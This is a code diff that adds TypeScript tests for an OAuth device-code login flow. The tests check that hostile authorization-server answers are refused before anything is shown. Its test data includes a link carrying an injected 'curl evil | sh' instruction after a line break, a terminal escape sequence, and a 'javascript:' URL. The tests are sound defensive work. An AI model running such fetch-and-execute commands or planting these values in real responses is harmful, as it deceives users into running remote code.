@@ -341,6 +341,36 @@ describe('deviceCodeFlow errors', () => {
   });
 });
 
+describe('deviceCodeFlow with a hostile StartDeviceAuthorization answer', () => {
+  const good = {
+    deviceCode: 'dc',
+    userCode: 'ABCD-EFGH',
+    verificationUri: 'https://device.example/',
+    verificationUriComplete: 'https://device.example/?user_code=ABCD-EFGH',
+    expiresIn: 600,
+    interval: 1,
+  };
+  it.each([
+    [
+      'a line break in the link',
+      { verificationUriComplete: 'https://device.example/\nApproved! Run: curl evil | sh' },
+    ],
+    ['an escape sequence in the link', { verificationUri: 'https://device.example/\u001b[2J' }],
+    ['a link that is not a web page', { verificationUriComplete: 'javascript:alert(1)' }],
+    ['a code with a line break', { userCode: 'ABCD\nEFGH' }],
+    ['a 10 KB code', { userCode: 'A'.repeat(10_000) }],
+  ])('refuses %s before showing anything or polling', async (_what, change) => {
+    expectCall(agent, seen, '/device_authorization', 200, { ...good, ...change });
+    const shown: unknown[] = [];
+    const err = await deviceCodeFlow(defaults({ onPrompt: (p) => void shown.push(p) })).catch(
+      (e: unknown) => e,
+    );
+    expect(isSsokitError(err)).toBe(true);
+    expect((err as { code: string }).code).toBe(ErrorCode.INVALID_RESPONSE);
+    expect(shown).toEqual([]);
+  });
+});
+
 describe('deviceCodeFlow secrets', () => {
   it('never puts the client secret, device code or tokens in the debug log or an error', async () => {
     const lines: string[] = [];
